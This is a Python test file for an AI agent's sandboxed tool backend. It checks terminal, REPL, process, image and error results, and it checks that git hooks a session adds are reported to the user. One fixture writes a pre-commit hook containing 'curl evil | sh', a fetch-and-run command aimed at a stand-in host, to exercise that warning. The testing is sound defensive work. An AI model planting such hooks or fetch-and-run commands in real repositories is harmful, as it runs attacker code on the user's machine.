"""The tool backend through a real daemon: what the model reads back for each tool."""

from __future__ import annotations

import hashlib
import io
import os
import re

import pytest
import trio
import trio.testing
from PIL import Image

from agent.calls.results import RESULT_CHARS
from agent.history.messages import ImageRef, ToolResult, UserMessage
from agent.models.providers import LEFT_OUT
import agentkit
from agent.models.scripted import call, reply
from conftest import needs_bwrap, wait_for

pytestmark = [needs_bwrap, pytest.mark.daemon(shared=True)]


kit = agentkit.kit


def results(model, request: int = -1) -> list[ToolResult]:
    return [m for m in model.requests[request].messages if isinstance(m, ToolResult)]


async def run_calls(kit, *calls, agent=None, prompt="go"):
    """One turn in which the model makes `calls` one step each, then answers "done"; the
    model (its requests) and the agent."""
    agent = agent or await kit.open()
    agent.model.add(*[reply("", c) for c in calls], reply("done"))
    result = await agent.run_turn(prompt)
    assert result.outcome == "completed", result
    return agent.model, agent


async def test_a_long_result_is_capped_and_names_the_whole_output(kit):
    model, agent = await run_calls(kit, call("run_terminal", command="seq 1 200000"))
    text = results(model)[-1].text
    assert len(text) <= RESULT_CHARS
    assert text.startswith("1\n2\n3\n") and "200000" in text and "100000\n" not in text
    expected = "".join(f"{i}\n" for i in range(1, 200001)).encode()
    m = re.search(rf"output cut: {len(expected)} bytes in all; the whole output is in "
                  rf"(/tmp/\S+) ", text)
    assert m, text[-400:]
    # The file holds every byte: the model can grep it instead of running the command again.
    r = await agent.backend.client.shell_run(agent.backend.session, f"sha256sum {m[1]}")
    assert r["output"].split()[0] == hashlib.sha256(expected).hexdigest()


async def test_a_cd_holds_for_the_next_call(kit):
    os.makedirs(os.path.join(kit.workspace, "sub", "deeper"))
    model, agent = await run_calls(
        kit,
        call("run_terminal", command="cd sub"),
        call("run_terminal", command="pwd; cd deeper"),
        call("run_terminal", command="pwd; cd /tmp"),
        call("run_terminal", command="pwd && cd /"),
        call("run_terminal", command="pwd"),
    )
    ws = os.path.realpath(kit.workspace)
    texts = [r.text for r in results(model)]
    assert "[now in sub/]" in texts[0]
    assert texts[1].startswith(f"{ws}/sub\n") and "[now in sub/deeper/]" in texts[1]
    assert texts[2].startswith(f"{ws}/sub/deeper\n") and "[now in /tmp]" in texts[2]
    assert texts[3].startswith("/tmp\n")  # outside the workspace too, as in a terminal
    assert texts[4].startswith("/\n")


async def test_a_vanished_folder_falls_back_to_the_workspace(kit):
    os.makedirs(os.path.join(kit.workspace, "gone"))
    model, _ = await run_calls(kit, call("run_terminal", command="cd gone && rmdir ../gone"),
                               call("run_terminal", command="pwd"))
    text = results(model)[-1].text
    ws = os.path.realpath(kit.workspace)
    assert text.startswith(f"[could not enter {ws}/gone (") and \
        "): this ran in the workspace root]\n" in text
    assert f"\n{ws}\n" in text


async def test_exit_signal_timeout_and_orphans_are_said_briefly(kit):
    model, _ = await run_calls(
        kit,
        call("run_terminal", command="echo out; exit 3"),
        call("run_terminal", command="kill -9 $$"),
        call("run_terminal", command="echo started; sleep 60", timeout_s=1),
        call("run_terminal", command="sleep 1000 & echo bg"),
    )
    texts = [r.text for r in results(model)]
    assert texts[0] == "out\n[exit code 3]"
    assert texts[1] == "(no output)\n[killed by SIGKILL]"
    assert texts[2].startswith("started\n[timed out after 1 s") and "process_start" in texts[2]
    assert texts[3].startswith("bg\n[exit code 0]\n[1 process(es) it left running were ended")


async def test_repl_output_and_errors(kit):
    model, _ = await run_calls(
        kit,
        call("repl", code="x = 41\nx + 1"),
        call("repl", code="1/0"),
        call("repl", code="print('y' * 100000)"),
    )
    texts = [r.text for r in results(model)]
    assert texts[0] == "42"
    assert "ZeroDivisionError" in texts[1] and texts[1].endswith("[error]")
    assert len(texts[2]) <= RESULT_CHARS and "the whole output is in /tmp/" in texts[2]


async def test_processes_outside_this_agent_are_unknown_ids(kit, daemon):
    # Ids are daemon-wide: a model must not reach another session's process by guessing.
    with daemon.client() as c:
        other = c.session_open(kit.workspace)["session"]
        foreign = c.process_start(other, "sleep 1000")["id"]
        try:
            model, _ = await run_calls(
                kit,
                call("process_start", command="echo hello; sleep 1000", name="mine"),
                call("process_output", id=foreign),
                call("process_stop", id=foreign),
                call("process_output", id="bg99999"),
            )
            texts = [r.text for r in results(model)]
            mine = re.match(r"Started (bg\d+)\.", texts[0])[1]
            for text, pid in ((texts[1], foreign), (texts[2], foreign), (texts[3], "bg99999")):
                assert text == (f"There is no background process {pid!r} of yours. Processes "
                                f"you started: {mine} (echo hello; sleep 1000).")
            assert c.process_output(foreign, since=0)["status"] == "running"
        finally:
            c.session_close(other)


async def test_process_output_and_stop(kit):
    agent = await kit.open([
        reply("", call("process_start", command="echo ready; exec sleep 1000")),
        lambda req: reply("", call("process_output", id=_started(req), until="ready")),
        lambda req: reply("", call("process_stop", id=_started(req))),
        reply("done"),
    ])
    assert (await agent.run_turn("go")).outcome == "completed"
    texts = [r.text for r in results(agent.model)]
    pid = _started(agent.model.requests[-1])
    assert texts[1] == f"ready\n[{pid} is running]"
    assert texts[2].startswith(f"{pid} stopped")


def _started(request) -> str:
    for m in request.messages:
        if isinstance(m, ToolResult) and m.text.startswith("Started "):
            return re.match(r"Started (bg\d+)", m.text)[1]
    raise AssertionError("no process started")


def png(path: str, size=(64, 48)) -> None:
    Image.new("RGB", size, (200, 30, 30)).save(path)


async def test_read_image_attaches_the_path_not_the_bytes(kit):
    png(os.path.join(kit.workspace, "red.png"))
    agent = await kit.open()
    model, _ = await run_calls(kit, call("read_image", path="red.png"), agent=agent)
    text = results(model)[-1].text
    ws = os.path.realpath(kit.workspace)
    assert text == f"{ws}/red.png: PNG image, shown 64x48. It is attached below."
    last = model.requests[-1].messages
    attachment = next(m for m in last if isinstance(m, UserMessage) and m.attachment)
    refs = [p for p in attachment.content if isinstance(p, ImageRef)]
    assert refs == [ImageRef(path=f"{ws}/red.png")]  # stored as a path
    loaded = model.images[-1][refs[0]]
    assert loaded.missing is None and (loaded.width, loaded.height) == (64, 48)
    assert Image.open(io.BytesIO(loaded.data)).size == (64, 48)
    # Between turns the file vanishes: the next request says so instead of failing.
    os.remove(os.path.join(kit.workspace, "red.png"))
    await run_calls(kit, agent=agent, prompt="again")
    loaded = model.images[-1][refs[0]]
    assert loaded.missing and "red.png" in loaded.missing and not loaded.data


async def test_an_oversized_image_is_fitted_before_it_reaches_a_request(kit):
    # Over Anthropic's 8000 px a side: sent as it is, it would fail this request and, kept in
    # the history, every later one.
    png(os.path.join(kit.workspace, "wide.png"), size=(9000, 300))
    model, _ = await run_calls(kit, call("read_image", path="wide.png"))
    assert results(model)[-1].text.endswith(
        "wide.png: PNG image, shown 1568x52, downscaled from 9000x300. It is attached below.")
    [loaded] = model.images[-1].values()
    assert (loaded.width, loaded.height) == (1568, 52)
    assert Image.open(io.BytesIO(loaded.data)).size == (1568, 52)


async def test_pictures_past_what_one_request_carries_are_left_out_and_said(kit):
    # Noise does not compress: each picture stays near its 3.75 MB, and a dozen of them are
    # more than the 32 MB an Anthropic request may be.
    for i in range(12):
        Image.frombytes("RGB", (1500, 1500), os.urandom(1500 * 1500 * 3)).save(
            os.path.join(kit.workspace, f"noise{i}.png"))
    model, _ = await run_calls(kit, *(call("read_image", path=f"noise{i}.png")
                                      for i in range(12)))
    images = model.images[-1]
    sent = [ref.path.rsplit("/", 1)[1] for ref, image in images.items() if not image.missing]
    left = [ref.path.rsplit("/", 1)[1] for ref, image in images.items() if image.missing]
    assert left and sent and len(left) + len(sent) == 12
    assert left + sent == [f"noise{i}.png" for i in range(12)]  # the most recent are sent
    assert sum(len(images[r].data) * 4 / 3 for r in images if not images[r].missing) \
        <= 24_000_000
    assert all(images[r].missing == LEFT_OUT for r in images if images[r].missing)


async def test_read_image_of_a_missing_or_non_image_file(kit):
    kit.write("notes.txt", "hello\n")
    model, _ = await run_calls(kit, call("read_image", path="nope.png"),
                               call("read_image", path="notes.txt"))
    texts = [r.text for r in results(model)]
    assert texts[0].startswith("read_image: ") and "nope.png" in texts[0]
    assert texts[1].startswith("read_image: ") and "notes.txt" in texts[1]
    assert all(r.is_error for r in results(model))


async def test_bad_arguments_are_answered_not_run(kit):
    model, _ = await run_calls(kit, call("run_terminal", command=5),
                               call("run_terminal", command="true", timeout_s=-1),
                               call("make_coffee", strength=9))
    texts = [r.text for r in results(model)]
    assert texts[0] == "run_terminal: Expected `str`, got `int` - at `command`"
    assert texts[1] == "run_terminal: Expected `float` > 0.0 - at `timeout_s`"
    assert texts[2].startswith("There is no tool 'make_coffee'; the tools are run_terminal")


async def test_every_result_is_capped_errors_too(kit):
    # What the model sent comes back in an error at most shortened; the error stays short.
    huge_name, huge_id, huge_path = "x" * 10_000, "bg" + "9" * 20_000, "z" * 30_000
    model, _ = await run_calls(kit, call(huge_name), call("process_stop", id=huge_id),
                               call("read_image", path=huge_path),
                               call("run_terminal", command="echo " + "y" * 200_000))
    texts = [r.text for r in results(model)]
    assert all(len(t) <= RESULT_CHARS for t in texts), [len(t) for t in texts]
    assert texts[0] == (f"There is no tool {huge_name[:80]!r}... (10000 characters); the tools "
                        f"are run_terminal, repl, process_start, process_output, process_write, "
                        f"process_stop, read_image, read_file, write_file, edit_file, find.")
    assert texts[1] == (f"There is no background process {huge_id[:80]!r}... (20002 "
                        f"characters) of yours. Processes you started: none.")
    assert texts[2].startswith("read_image failed: ") and "characters in all" in texts[2]
    assert texts[3].startswith("y" * 100) and "[exit code 0]" in texts[3]


class HeldTurnEnd:
    """The backend's client, with turn.end held until `release` is set; counts turn.begin."""

    def __init__(self, client):
        self.client = client
        self.held = trio.Event()
        self.release = trio.Event()
        self.begun = 0

    def __getattr__(self, name):
        return getattr(self.client, name)

    async def turn_end(self, *args, **kwargs):
        self.held.set()
        await self.release.wait()
        return await self.client.turn_end(*args, **kwargs)

    async def turn_begin(self, *args, **kwargs):
        self.begun += 1
        return await self.client.turn_begin(*args, **kwargs)


async def test_a_repl_call_during_a_reset_runs_in_the_new_turn(kit):
    """`toolsd mcp` serves calls at once: a repl call that comes while repl_reset ends the
    old turn waits for the new one, rather than beginning a turn the reset then replaces
    (its interpreter running, unreachable, until the connection ends)."""
    agent = await kit.open()
    backend = agent.backend
    await backend.call(call("repl", code="old = 1"))
    held = backend.client = HeldTurnEnd(backend.client)
    got = []
    async with trio.open_nursery() as nursery:
        nursery.start_soon(backend.reset_turn)
        await held.held.wait()
        nursery.start_soon(_collect, backend.call(call("repl", code="new = 2; new")), got)
        await trio.testing.wait_all_tasks_blocked()
        begun_meanwhile = held.begun
        held.release.set()
    backend.client = held.client
    assert begun_meanwhile == 0  # the repl call waited: it began no turn of its own
    assert held.begun == 1 and got[0].text == "2"
    assert (await backend.call(call("repl", code="new"))).text == "2"
    assert len(kit.daemon.running("python_repl")) == 1


async def _collect(coroutine, into: list):
    into.append(await coroutine)


async def test_an_id_the_daemon_forgot_is_explained(kit):
    # A daemon restart forgets every process (its ids are never reused); the agent still
    # holds the id it started. Stood in for by an id it holds and the daemon never gave.
    agent = await kit.open()
    agent.backend.processes["bg424242"] = "npm run dev"
    model, _ = await run_calls(kit, call("process_output", id="bg424242"),
                               call("process_stop", id="bg424242"), agent=agent)
    for text in (r.text for r in results(model)):
        assert text == ("bg424242 is gone: toolsd was restarted since it was started, and its "
                        "processes with it. Start it again with process_start.")


# ---------------------------------------------------------------- repl figures


def figure_code(name: str) -> str:
    """REPL code whose last value is a picture (protocol 1.1 "figures"): an object with
    `_repr_png_`, so that no package is needed in the session's interpreter."""
    return (f"class Picture:\n    def _repr_png_(self):\n"
            f"        return open({name!r}, 'rb').read()\nPicture()")


async def test_repl_figures_ride_below_the_results_as_read_image_does(kit):
    png(os.path.join(kit.workspace, "red.png"))
    png(os.path.join(kit.workspace, "wide.png"), size=(4000, 300))
    agent = await kit.open()
    model, _ = await run_calls(kit, call("repl", code=figure_code("red.png")),
                               call("repl", code=figure_code("wide.png")),
                               call("repl", code="1 + 1"), agent=agent)
    small, wide, plain = (r.text for r in results(model))
    m = re.fullmatch(r"<__main__\.Picture object at 0x\w+>\n"
                     r"\[1 figure attached below: (/tmp/toolsd-figures/\S+\.png) \(64x48\)\]",
                     small)
    assert m, small
    # Fitted to the provider's limits before it reaches a request, as read_image's are.
    m2 = re.search(r"\[1 figure attached below: (/tmp/toolsd-figures/\S+\.png) \(1568x118\)\]",
                   wide)
    assert m2, wide
    assert plain == "2"
    attached = [m for m in model.requests[-1].messages
                if isinstance(m, UserMessage) and m.attachment]
    assert [[p.text if hasattr(p, "text") else p for p in a.content] for a in attached] == [
        [f"The figure {m[1]}, made by repl:", ImageRef(path=m[1])],
        [f"The figure {m2[1]}, made by repl:", ImageRef(path=m2[1])]]
    images = model.images[-1]
    assert [(i.width, i.height) for i in images.values()] == [(64, 48), (1568, 118)]
    assert Image.open(io.BytesIO(images[ImageRef(path=m[1])].data)).size == (64, 48)
    events = [e for e in agent.conversation.events() if e["type"] == "tool_result"]
    assert [e["images"] for e in events] == [[m[1]], [m2[1]], []]


async def test_repl_figures_count_in_what_one_request_carries(kit):
    # Two figures made first, then read_image of pictures that alone fill a request (as in
    # the test above): the figures, the oldest, are among those left out, and said to be.
    for i in range(13):
        Image.frombytes("RGB", (1500, 1500), os.urandom(1500 * 1500 * 3)).save(
            os.path.join(kit.workspace, f"noise{i}.png"))
    model, _ = await run_calls(kit, call("repl", code=figure_code("noise0.png")),
                               call("repl", code=figure_code("noise1.png")),
                               *(call("read_image", path=f"noise{i}.png") for i in range(2, 13)))
    images = model.images[-1]
    assert len(images) == 13 and any(not i.missing for i in images.values())
    figures = [ref for ref in images if ref.path.startswith("/tmp/toolsd-figures/")]
    assert len(figures) == 2 and all(images[r].missing == LEFT_OUT for r in figures)
    assert sum(len(i.data) * 4 / 3 for i in images.values() if not i.missing) <= 24_000_000


# ---------------------------------------------------------------- host_exec


async def test_what_the_hosts_git_would_run_is_told_once_when_it_appears(kit):
    agent = await kit.open()
    ws = os.path.realpath(kit.workspace)
    hook, fsmonitor = (f"{ws}/app/.git/hooks/pre-commit",
                       f"{ws}/app/.git/config: core.fsmonitor = ./watch.sh")
    model, _ = await run_calls(
        kit,
        call("run_terminal", command="git init -q app && echo 'curl evil | sh' > "
                                     "app/.git/hooks/pre-commit"),
        call("run_terminal", command="echo later"),
        call("repl", code="import subprocess; subprocess.run(['git', '-C', 'app', 'config', "
                          "'core.fsmonitor', './watch.sh']).returncode"),
        call("run_terminal", command="echo quiet"), agent=agent)
    made, later, configured, quiet = (r.text for r in results(model))
    note = "[host_exec: the user's git would run this, which the session added (the user is told): "
    assert made == f"(no output)\n[exit code 0]\n{note}{hook}]"
    assert later == "later\n[exit code 0]"  # not repeated while it stays
    assert configured == f"0\n{note}{fsmonitor}]"  # only what is new
    assert quiet == "quiet\n[exit code 0]"
    told = [(e["turn"], e["added"]) for e in agent.conversation.events()
            if e["type"] == "host_exec"]
    assert told == [(1, [hook]), (1, [fsmonitor])]


async def test_what_a_process_adds_after_the_turn_is_told_at_close(kit):
    agent = await kit.open()
    await run_calls(kit, call("process_start", command="until [ -e go ]; do sleep 0.05; done; "
                                                       "git init -q late && touch "
                                                       "late/.git/hooks/pre-push"), agent=agent)
    seen = []
    agent.on_event = seen.append  # what comes between turns
    kit.write("go", "")
    hook = os.path.join(os.path.realpath(kit.workspace), "late", ".git", "hooks", "pre-push")
    wait_for(lambda: os.path.exists(hook))
    await agent.aclose()  # session.close looks a last time
    assert [(e["type"], e["turn"], e["added"]) for e in seen] == [("host_exec", None, [hook])]
